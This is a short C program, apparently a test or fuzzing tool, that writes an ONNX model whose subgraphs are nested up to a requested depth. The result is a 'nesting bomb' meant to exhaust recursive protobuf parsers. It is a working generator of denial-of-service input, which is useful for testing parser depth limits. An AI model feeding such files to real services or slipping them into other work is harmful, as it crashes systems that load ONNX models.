/* Writes an ONNX model to stdout whose graph lies in a graph lies in a graph: GraphProto -> node ->
 * attribute -> GraphProto, as deep as asked.
 *
 * usage: nesting_bomb LEVELS
 * Written back to front, since every message has its length before it.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

typedef struct bytes {
    uint8_t *data;
    size_t size; /* of the buffer */
    size_t at;   /* where the text begins; it ends with the buffer */
} bytes;

static void prepend(bytes *text, uint8_t byte)
{
    if (text->at > 0) text->data[--text->at] = byte;
}

/* Wraps what is there so far: key, length, message. */
static void wrap(bytes *text, unsigned field)
{
    uint8_t varint[10];
    unsigned n = 0;
    for (size_t length = text->size - text->at; n == 0 || length; length >>= 7)
        varint[n++] = (uint8_t)((length & 0x7f) | (length > 0x7f ? 0x80 : 0));
    while (n) prepend(text, varint[--n]);
    prepend(text, (uint8_t)(field << 3 | 2));
}

int main(int argc, char **argv)
{
    enum { MOST_BYTES_PER_LEVEL = 24, NODE = 1, ATTRIBUTE = 5, SUBGRAPH = 6, GRAPH = 7 };
    const unsigned long levels = argc == 2 ? strtoul(argv[1], NULL, 10) : 0;
    if (levels == 0 || levels > 100000000) {
        fprintf(stderr, "usage: nesting_bomb LEVELS\n");
        return 2;
    }

    bytes text = {NULL, (levels + 1) * MOST_BYTES_PER_LEVEL, (levels + 1) * MOST_BYTES_PER_LEVEL};
    text.data = malloc(text.size);
    if (!text.data) return 1;
    for (unsigned long i = 0; i < levels; i++) {
        wrap(&text, SUBGRAPH);
        wrap(&text, ATTRIBUTE);
        wrap(&text, NODE);
    }
    wrap(&text, GRAPH);
    prepend(&text, 8);
    prepend(&text, 1 << 3); /* ir_version */
    const size_t size = text.size - text.at;
    const size_t written = fwrite(text.data + text.at, 1, size, stdout);
    free(text.data);
    return written == size ? 0 : 1;
}
